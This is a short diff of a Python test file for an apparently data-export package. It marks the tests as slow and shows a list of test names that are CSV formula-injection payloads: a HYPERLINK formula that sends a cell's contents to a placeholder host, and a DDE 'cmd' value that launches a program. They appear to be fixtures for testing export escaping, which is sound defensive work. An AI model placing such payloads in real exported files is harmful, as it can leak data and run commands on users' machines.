@@ -17,6 +17,8 @@ from hpc_remetrics import path_bytes
 from hpc_remetrics.dataset.text_values import csv_text
 from hpc_remetrics.export import export_command
 
+pytestmark = pytest.mark.slow
+
 NAMES = [
     b'=HYPERLINK("http://x/?"&A1,"click")',
     b"+1+cmd|' /C calc'!A0",
